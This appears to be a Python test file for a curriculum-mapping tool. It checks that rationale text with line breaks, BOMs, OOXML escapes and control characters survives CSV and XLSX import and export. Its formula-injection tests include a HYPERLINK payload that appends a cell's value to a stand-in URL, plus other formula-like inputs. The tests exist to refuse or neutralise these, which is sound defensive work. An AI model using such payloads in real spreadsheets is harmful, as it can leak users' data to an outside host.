"""Real-world text through the mapping CSV, the matrix workbook and every CSV/XLSX export (#12, #13).

Each case of ``../shared/cases/text/`` (05, 06, 07b, 13b, 19) and ``leading_space.xlsx`` of
``../shared/cases/hostile/`` rebuilt by a generator (tests/xlsx_forge.py), with its right result.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
from xlsx_forge import edit_workbook, tree_digest, with_sheet_xml, with_shared_string

from cipt_graph.build import build_store
from cipt_graph.output import to_csv
from cipt_graph.paths import init_workspace
from cipt_graph.queries import run_query
from cipt_graph.spreadsheet import MatrixModel, import_matrix, write_matrix_csv, write_matrix_xlsx
from cipt_graph.store import iter_records

CSV_NAME = "module_competency.csv"
LINK = ("M01", "BC05-C1")  # the first row of the shipped mapping: Justifications!G2


@pytest.fixture()
def ws(tmp_path):
    return init_workspace(tmp_path / "ws")


def export(ws, tmp_path: Path, name: str = "matrice.xlsx") -> Path:
    path = tmp_path / name
    path.write_bytes(write_matrix_xlsx(MatrixModel.from_workspace(ws)))
    return path


def set_rationale(value: str):
    """Type ``value`` into Justifications!G2 as text (what a spreadsheet stores for typed text)."""
    def change(wb):
        sheet = wb["Justifications"]
        assert (sheet["A2"].value, sheet["B2"].value) == LINK
        sheet["G2"].value = value
        sheet["G2"].data_type = "s"
    return change


def run_main(capsys, *args: str):
    from cipt_graph.cli import main

    capsys.readouterr()
    code = main(list(args))
    out = capsys.readouterr()
    return subprocess.CompletedProcess(args, code, out.out, out.err)


def csv_rationale(ws, link=LINK) -> str:
    with (ws.mapping_dir / CSV_NAME).open(encoding="utf-8", newline="") as handle:
        return next(r["rationale"] for r in csv.DictReader(handle) if (r["module"], r["competency"]) == link)


def api_rationale(ws, link=LINK) -> str:
    """The rationale as the named query answers it (the JSON of the API and `cipt query`)."""
    rows = json.loads(json.dumps(list(iter_records(run_query(build_store(ws), "coverage_matrix", {"lang": "fr"})))))
    return next(r["rationale"] for r in rows if (r["module_code"], r["competency_code"]) == link)


def xlsx_rationale(ws, tmp_path: Path, link=LINK) -> str:
    wb = openpyxl.load_workbook(export(ws, tmp_path, "again.xlsx"))
    sheet = wb["Justifications"]
    row = next(r for r in range(2, sheet.max_row + 1) if (sheet.cell(r, 1).value, sheet.cell(r, 2).value) == link)
    cell = sheet.cell(row, 7)
    assert cell.data_type == "s"
    return cell.value


def read_everywhere(ws, tmp_path: Path) -> set[str]:
    return {csv_rationale(ws), api_rationale(ws), xlsx_rationale(ws, tmp_path)}


# --- 05: Alt+Enter line break in a rationale ---------------------------------------------------


def test_case05_line_break_in_a_cell_round_trips(ws, tmp_path):
    text = "Initie aux formes de la parole institutionnelle.\nDeuxième ligne : ateliers d'écriture."
    book = edit_workbook(export(ws, tmp_path), tmp_path / "05.xlsx", set_rationale(text))
    result = import_matrix(ws, book, author="T")
    assert result.applied and [c["fields"] for c in result.changed] == [["rationale"]]
    assert read_everywhere(ws, tmp_path) == {text}


def test_case05_crlf_in_a_cell_becomes_lf(ws, tmp_path):
    book = edit_workbook(export(ws, tmp_path), tmp_path / "05b.xlsx", set_rationale("Un.\r\nDeux.\rTrois."))
    import_matrix(ws, book, author="T")
    assert read_everywhere(ws, tmp_path) == {"Un.\nDeux.\nTrois."}


# --- 06: U+2028 in a rationale ------------------------------------------------------------------


def test_case06_unicode_line_separator_is_accepted_as_a_line_break(ws, tmp_path, capsys):
    book = edit_workbook(export(ws, tmp_path), tmp_path / "06.xlsx",
                         set_rationale("Initie aux formes de la parole institutionnelle.\u2028Ateliers d'écriture."))
    done = run_main(capsys, "import-matrix", str(book), "--data", str(ws.root), "--author", "T")
    assert done.returncode == 0, done.stderr
    assert ".check" not in done.stderr and ".tmp" not in done.stderr
    # docs/text.md: in a multi-line field every line separator becomes LF.
    assert read_everywhere(ws, tmp_path) == {"Initie aux formes de la parole institutionnelle.\nAteliers d'écriture."}


def test_case06_mapping_csv_with_u2028_in_a_quoted_field_is_read_whole(ws, tmp_path, capsys):
    path = ws.mapping_dir / CSV_NAME
    text = path.read_text(encoding="utf-8")
    first = text.split("\n")[1]
    new = first.rsplit(",", 1)[0] + ',"Un.\u2028Deux, trois.\nQuatre."'
    path.write_text(text.replace(first, new, 1), encoding="utf-8")
    done = run_main(capsys, "validate", "--data", str(ws.root))
    assert done.returncode in (0, 1), done.stderr  # findings are fine, errors are not
    assert api_rationale(ws) == "Un.\nDeux, trois.\nQuatre."


# --- 07b: _x000D_ in sharedStrings.xml -----------------------------------------------------------


def test_case07b_ooxml_escape_in_shared_strings_is_decoded(ws, tmp_path):
    book = with_shared_string(export(ws, tmp_path), tmp_path / "07b.xlsx", "Justifications", "G2",
                              "Initie aux formes de la parole institutionnelle._x000D_\nAteliers d&apos;écriture.")
    assert b"_x000D_" in zipfile.ZipFile(book).read("xl/sharedStrings.xml")
    import_matrix(ws, book, author="T")
    assert read_everywhere(ws, tmp_path) == {"Initie aux formes de la parole institutionnelle.\nAteliers d'écriture."}


def test_literal_ooxml_escape_text_round_trips(ws, tmp_path):
    """A rationale that really contains ``_x000D_`` is written ``_x005F_x000D_`` and read back as typed."""
    text = "Le motif _x000D_ et _x005F_ restent du texte."
    book = edit_workbook(export(ws, tmp_path), tmp_path / "lit.xlsx", set_rationale("placeholder"))
    book = with_shared_string(book, tmp_path / "lit2.xlsx", "Justifications", "G2",
                              "Le motif _x005F_x000D_ et _x005F_x005F_ restent du texte.")
    import_matrix(ws, book, author="T")
    assert csv_rationale(ws) == api_rationale(ws) == text
    again = export(ws, tmp_path, "lit3.xlsx")
    with zipfile.ZipFile(again) as archive:
        assert any(b"_x005F_x000D_" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    before = tree_digest(ws.root)
    assert import_matrix(ws, again, author="T").empty
    assert tree_digest(ws.root) == before


# --- 13b: a BOM at the start of the mapping CSV --------------------------------------------------


def test_case13b_bom_in_mapping_csv_is_not_data(ws, capsys):
    path = ws.mapping_dir / CSV_NAME
    plain = api_rationale(ws)
    triples = len(build_store(ws))
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))
    done = run_main(capsys, "validate", "--data", str(ws.root))
    assert done.returncode in (0, 1) and "error" not in done.stderr, done.stderr
    assert len(build_store(ws)) == triples and api_rationale(ws) == plain


def test_case13b_bom_mapping_exports_and_reimports_unchanged(ws, tmp_path):
    path = ws.mapping_dir / CSV_NAME
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    before = tree_digest(ws.root)
    assert import_matrix(ws, export(ws, tmp_path), author="T").empty
    assert tree_digest(ws.root) == before


def test_bad_utf8_in_mapping_csv_names_line_and_column(ws, capsys):
    path = ws.mapping_dir / CSV_NAME
    lines = path.read_bytes().split(b"\n")
    lines[3] = lines[3] + b"\xff"
    path.write_bytes(b"\n".join(lines))
    done = run_main(capsys, "validate", "--data", str(ws.root))
    assert done.returncode == 2 and f"{CSV_NAME}: ligne 4:" in done.stderr and "UTF-8" in done.stderr


# --- 19: a label XML 1.0 cannot hold --------------------------------------------------------------


@pytest.fixture()
def ws19(ws):
    path = ws.root / "programme.ttl"
    text = path.read_text(encoding="utf-8")
    assert '"Communication publique"@fr' in text
    path.write_text(text.replace('"Communication publique"@fr', '"Communication\\u000Bpublique"@fr', 1),
                    encoding="utf-8")
    return ws


def test_case19_control_in_a_label_is_replaced_visibly_in_xlsx(ws19, tmp_path, capsys):
    out = tmp_path / "x.xlsx"
    done = run_main(capsys, "export-matrix", "--data", str(ws19.root), "--out", str(out))
    assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(out)["Matrice"]
    labels = [sheet.cell(r, 3).value for r in range(4, sheet.max_row + 1)]
    assert "Communication\ufffdpublique" in labels
    before = tree_digest(ws19.root)
    done = run_main(capsys, "import-matrix", str(out), "--data", str(ws19.root), "--author", "T")
    assert done.returncode == 0 and "aucun changement" in done.stdout, done.stderr
    assert tree_digest(ws19.root) == before


def test_case19_matrix_views_workbook_and_csv(ws19):
    from cipt_graph.visualize import matrix_csv, matrix_xlsx

    store = build_store(ws19)
    wb = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(store, "fr")))
    assert "Communication\ufffdpublique" in [c.value for c in wb.worksheets[0]["C"]]
    rows = list(csv.DictReader(io.StringIO(matrix_csv(store, "fr"), newline="")))
    assert "Communication\x0bpublique" in {r["module_label"] for r in rows}  # CSV holds any character
    rows = list(csv.reader(io.StringIO(write_matrix_csv(MatrixModel.from_workspace(ws19)).decode(), newline="")))
    assert "Communication\x0bpublique" in {r[2] for r in rows}


# --- leading_space.xlsx: formulas, whatever the leading blanks -------------------------------------


HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/x?"&A2,"Voir")'


@pytest.mark.parametrize("prefix", ["", " ", "  ", "\t", "\n", "\u00a0"])
def test_leading_space_formula_text_is_refused(ws, tmp_path, capsys, prefix):
    book = edit_workbook(export(ws, tmp_path), tmp_path / "ls.xlsx", set_rationale(prefix + HYPERLINK))
    before = tree_digest(ws.root)
    done = run_main(capsys, "import-matrix", str(book), "--data", str(ws.root), "--author", "T")
    assert done.returncode == 2 and "Justifications!G2" in done.stderr and "formule" in done.stderr, done.stderr
    assert tree_digest(ws.root) == before


def test_formula_cell_is_refused(ws, tmp_path, capsys):
    def formula(xml: str) -> str:
        return re.sub(r'<c r="G2"[^>]*?(?:/>|>.*?</c>)', '<c r="G2" t="str"><f>A2&amp;"x"</f><v>M01x</v></c>',
                      xml, count=1, flags=re.S)
    book = with_sheet_xml(export(ws, tmp_path), tmp_path / "f.xlsx", "Justifications", formula)
    before = tree_digest(ws.root)
    done = run_main(capsys, "import-matrix", str(book), "--data", str(ws.root), "--author", "T")
    assert done.returncode == 2 and "Justifications!G2\u00a0: formule" in done.stderr, done.stderr
    assert tree_digest(ws.root) == before


def test_text_marked_as_text_in_excel_is_accepted(ws, tmp_path):
    """Typing '=… in Excel stores the text with quotePrefix: an explicit text, accepted as such."""
    def change(wb):
        cell = wb["Justifications"]["G2"]
        cell.value = "= la moitié du module"
        cell.data_type = "s"  # a text cell, as Excel stores '= la moitié du module
        cell.quotePrefix = True
    book = edit_workbook(export(ws, tmp_path), tmp_path / "qp.xlsx", change)
    import_matrix(ws, book, author="T")
    assert csv_rationale(ws) == "= la moitié du module"


@pytest.fixture()
def ws_formula_like(ws):
    """A workspace whose mapping CSV holds rationales that a spreadsheet would run."""
    path = ws.mapping_dir / CSV_NAME
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    texts = [HYPERLINK, "+33 1 44 07 80 00", "-10 h", "@SUM(A1)", "\t=1+1"]
    for row, text in zip(rows, texts):
        row["rationale"] = text
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return ws


def test_rationale_starting_with_equals_round_trips_as_text(ws_formula_like, tmp_path):
    ws = ws_formula_like
    book = export(ws, tmp_path)
    sheet = openpyxl.load_workbook(book)["Justifications"]
    assert sheet["G2"].value == HYPERLINK and sheet["G2"].data_type == "s" and sheet["G2"].quotePrefix
    with zipfile.ZipFile(book) as archive:
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
                       for n in archive.namelist() if n.startswith("xl/worksheets/"))
    before = tree_digest(ws.root)
    assert import_matrix(ws, book, author="T").empty
    assert tree_digest(ws.root) == before
    assert api_rationale(ws) == HYPERLINK  # stored as text, unchanged


def test_csv_exports_neutralise_formula_text(ws_formula_like):
    ws = ws_formula_like
    store = build_store(ws)
    rows = list(csv.DictReader(io.StringIO(to_csv(run_query(store, "coverage_matrix", {"lang": "fr"})),
                                           newline="")))
    got = {r["rationale"] for r in rows}
    assert {"'" + HYPERLINK, "'+33 1 44 07 80 00", "'-10 h", "'@SUM(A1)", "'=1+1"} <= got  # tab trimmed on read
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r" and value.lstrip()[:1] not in ("=", "+", "-", "@") \
                or value.lstrip("-").replace(".", "", 1).isdigit()


def test_csv_numbers_stay_numbers():
    from cipt_graph.cells import csv_cell

    assert [csv_cell(v) for v in (-30, 2.5, 0, None, "-30", " =1", "a=b")] == \
        ["-30", "2.5", "0", "", "'-30", "' =1", "a=b"]
